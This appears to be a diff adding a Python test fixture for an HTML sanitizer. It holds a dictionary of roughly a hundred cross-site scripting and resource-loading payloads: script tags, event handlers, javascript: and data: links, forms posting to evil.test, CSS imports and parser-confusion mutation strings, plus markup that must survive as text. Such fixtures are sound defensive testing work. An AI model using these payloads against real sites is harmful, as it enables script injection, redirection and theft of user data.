@@ -1,0 +1,147 @@
+"""Markup that tries to run, load or lead somewhere.
+
+Code in it sets ``window.pwned``; addresses in it are at ``evil.test``. Neither word is visible
+text, so neither may remain in a rendered page.
+"""
+
+HOSTILE: dict[str, str] = {
+    # scripts
+    "script": "<script>pwned=1</script>",
+    "script with address": "<script src=//evil.test/x.js></script>",
+    "script in upper case": "<SCRIPT>pwned=1</SCRIPT >",
+    "script as module": "<script type=module>pwned=1</script>",
+    "script never closed": "<p>x<script>pwned=1",
+    "script in svg": "<svg><script>pwned=1</script></svg>",
+    "script in svg by reference": "<svg><script href=//evil.test/x.js /></svg>",
+    "script in math": "<math><mtext><script>pwned=1</script></mtext></math>",
+    "script in a select": "<select><option><script>pwned=1</script></select>",
+    "script behind the page": "</html><script>pwned=1</script>",
+    # handlers
+    "handler on an image": "<img src=x onerror=pwned=1>",
+    "handler behind a slash": "<img/src=x/onerror=pwned=1>",
+    "handler with odd case": "<iMg SrC=x OnErRoR=pwned=1>",
+    "handler on the body": "<body onload=pwned=1>",
+    "handler on svg": "<svg onload=pwned=1></svg>",
+    "handler on focus": "<input autofocus onfocus=pwned=1>",
+    "handler on details": "<details open ontoggle=pwned=1><summary>x</summary></details>",
+    "handler on a transition": "<p style='animation:x 1s' onanimationstart=pwned=1>x",
+    "handler on marquee": "<marquee onstart=pwned=1>x</marquee>",
+    "handler on media": "<video><source onerror=pwned=1 src=x></video>",
+    "handler on an unknown element": "<xyz onclick=pwned=1 tabindex=1>x</xyz>",
+    "handler behind a quote": "<p title='\"><img src=x onerror=pwn'>x</p>",
+    "handler in a broken tag": '<img """><img src=x onerror=pwned=1>">',
+    # addresses that run
+    "javascript link": "<a href=javascript:pwned=1>x</a>",
+    "javascript link with a line break": "<a href='java\nscript:pwned=1'>x</a>",
+    "javascript link with references": "<a href='&#106;avascript&colon;pwned=1'>x</a>",
+    "javascript link with a control character": "<a href='\x01javascript:pwned=1'>x</a>",
+    "javascript link in svg": "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>",
+    "javascript link in math": "<math href=javascript:pwned=1>x</math>",
+    "javascript link on an image map": "<map><area href=javascript:pwned=1></map>",
+    "vbscript link": "<a href='vbscript:pwned=1'>x</a>",
+    "data link": "<a href='data:text/html,<script>pwned=1</script>'>x</a>",
+    "javascript picture": "<img src=javascript:pwned=1>",
+    "html as a picture": "<img src='data:text/html,<script>pwned=1</script>'>",
+    "ping": "<a href=# ping=//evil.test/>x</a>",
+    "download": "<a href=//evil.test/x.exe download>x</a>",
+    # leading away
+    "refresh": "<meta http-equiv=refresh content='0;url=//evil.test/'>",
+    "refresh in the body": "<p>x<meta http-equiv=Refresh content='0;url=javascript:pwned=1'>",
+    "refresh for some": "<noscript><meta http-equiv=refresh content='0;//evil.test/'></noscript>",
+    "policy": "<meta http-equiv=content-security-policy content='img-src *'>",
+    "base": "<base href=//evil.test/ target=_top>",
+    "form": "<form action=//evil.test/ method=post target=_top><input name=a></form>",
+    "form sent by a button": "<form><button formaction=//evil.test/>x</button></form>",
+    "form with a picture": "<form action=//evil.test/><input type=image src=//evil.test/x></form>",
+    "form sent from outside": "<form id=f></form><button form=f formaction=//evil.test/>x</button>",
+    "form with javascript": "<form action=javascript:pwned=1><input type=submit></form>",
+    # frames and plug-ins
+    "iframe": "<iframe src=//evil.test/></iframe>",
+    "iframe with a document": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "iframe with javascript": "<iframe src=javascript:parent.pwned=1></iframe>",
+    "iframe with markup inside": "<iframe><img src=//evil.test/x></iframe >",
+    "frameset": "<frameset onload=pwned=1><frame src=//evil.test/></frameset>",
+    "object": "<object data=//evil.test/x.swf type=application/x-shockwave-flash></object>",
+    "object with html": "<object data='data:text/html,<script>pwned=1</script>'></object>",
+    "embed": "<embed src=//evil.test/x.svg>",
+    "applet": "<applet code=Evil codebase=//evil.test/><param name=a value=//evil.test/></applet>",
+    "portal": "<portal src=//evil.test/></portal>",
+    "fenced frame": "<fencedframe src=//evil.test/></fencedframe>",
+    # loading
+    "picture": "<img src=//evil.test/x.png srcset='//evil.test/2x.png 2x' lowsrc=//evil.test/l>",
+    "picture sources": "<picture><source srcset=//evil.test/1><img src=//evil.test/2></picture>",
+    "old picture": "<image src=//evil.test/x.png>",
+    "background": "<table background=//evil.test/x.png><td background=//evil.test/y.png>x</table>",
+    "video": "<video src=//evil.test/x.mp4 poster=//evil.test/x.png autoplay></video>",
+    "audio": "<audio src=//evil.test/x.mp3 autoplay></audio>",
+    "track": "<video><track default src=//evil.test/x.vtt></video>",
+    "background sound": "<bgsound src=//evil.test/x.wav>",
+    "style sheet": "<link rel=stylesheet href=//evil.test/x.css>",
+    "preload": "<link rel=preload as=image href=//evil.test/x.png>",
+    "prefetch": "<link rel='dns-prefetch preconnect prefetch' href=//evil.test/>",
+    "icon": "<link rel=icon href=//evil.test/favicon.ico>",
+    "manifest": "<link rel=manifest href=//evil.test/m.json>",
+    "import": "<link rel=import href=//evil.test/x.html>",
+    "picture in svg": "<svg><image href=//evil.test/x.png /></svg>",
+    "use of another file": "<svg><use href=//evil.test/x.svg#a></use></svg>",
+    "filter from another file": "<svg><rect fill='url(//evil.test/x#a)' width=9 height=9 /></svg>",
+    "filter picture": "<svg><filter><feImage href=//evil.test/x.png /></filter></svg>",
+    # style sheets
+    "css address": "<style>p{background:url(//evil.test/x.png)}</style><p>x",
+    "css address in an attribute": "<p style='background:url(//evil.test/x.png)'>x",
+    "css address in disguise": r"<p style='background:\75\72\6c(//evil.test/x.png)'>x",
+    "css import": "<style>@import '//evil.test/x.css';</style>",
+    "css import by url": "<style>@import url(//evil.test/x.css) screen;</style>",
+    "css import in disguise": r"<style>@\69 mport/**/'//evil.test/x.css';</style>",
+    "css import in svg by reference": "<svg><style>@imp&#111;rt '//evil.test/x.css';</style></svg>",
+    "css font": "<style>@font-face{font-family:a;src:url(//evil.test/f)}p{font:9px a}</style><p>x",
+    "css image set": "<p style='background:image-set(\"//evil.test/x.png\" 1x)'>x",
+    "css expression": "<p style='width:expression(pwned=1)'>x",
+    "css behavior": "<p style='behavior:url(//evil.test/x.htc)'>x",
+    "css binding": "<p style='-moz-binding:url(//evil.test/x.xml#a)'>x",
+    "css that broke its string": "<style>p{content:'a\n;background:url(//evil.test/x)}</style><p>x",
+    "css behind a comment mark": "<style><!--p{background:url(//evil.test/x.png)}--></style><p>x",
+    "css that ends its element": "<style>p{content:'</style><img src=//evil.test/x>'}</style>",
+    # animation, templates, shadow trees
+    "animated link": (
+        "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text>x</text></a></svg>"
+    ),
+    "set link": "<svg><a><set attributeName=href to=javascript:pwned=1 /><text>x</text></a></svg>",
+    "foreign object": "<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>",
+    "template": "<template><img src=//evil.test/x></template>",
+    "shadow tree": "<div><template shadowrootmode=open><img src=//evil.test/x></template>x</div>",
+    "customised element": "<button is=x-evil nonce=n onclick=pwned=1>x</button>",
+    "popover": "<button popovertarget=p onclick=pwned=1>x</button><p popover id=p>x",
+    # parsers that disagree
+    "markup in noscript": "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
+    "markup in noembed": "<noembed><p title='</noembed><img src=x onerror=pwned=1>'></noembed>",
+    "markup in noframes": "<noframes><p title='</noframes><img src=x onerror=pwned=1>'></noframes>",
+    "markup in a comment": "<!--><img src=x onerror=pwned=1>-->",
+    "markup in a declaration": "<!x><img src=x onerror=pwned=1><?x ><img src=//evil.test/x>",
+    "markup in cdata": "<svg><![CDATA[><image href=//evil.test/x />]]></svg>",
+    "math to html": (
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
+        "onerror=pwn&gt;' src=//evil.test/x>"
+    ),
+    "svg to html": "<svg></p><style><g title='</style><img src=x onerror=pwn>'></g></style></svg>",
+    "svg description": "<svg><desc><p><style><g title='</style><img src=//evil.test/x>'></svg>",
+    "form in a form": "<form><div></form><form action=//evil.test/><input name=a></form>",
+    "annotation with html": (
+        "<math><annotation-xml encoding=text/html><img src=x onerror=pwned=1></math>"
+    ),
+    "attribute name with a quote": "<p a\"b='x' onclick=pwned=1 \"onfocus=pwned=1>x</p>",
+    "tag name with a quote": '<img"onerror=pwned=1 src=//evil.test/x>',
+    "stamped by the page": "<p data-node=0 onclick=pwned=1>x</p>",
+}
+
+READABLE: dict[str, str] = {
+    "script split by a script": "<scr<script>ipt>pwned=1</script>",
+    "css with markup in svg": "<svg><style><img src=x onerror=pwned=1></style></svg>",
+    "markup in a title": "<title><img src=x onerror=pwned=1></title>",
+    "markup in a text area": "<textarea></textare><img src=x onerror=pwned=1></textarea>",
+    "markup in xmp": "<xmp><img src=x onerror=pwned=1></xmp>",
+    "markup in listing": "<listing>&lt;img src=x onerror=pwned=1></listing>",
+    "markup as text": "<p>&lt;img src=x onerror=pwned=1&gt;</p>",
+    "markup in plain text": "<plaintext><img src=x onerror=pwned=1>",
+}
+"""What browsers take for text, or may: text it must stay."""
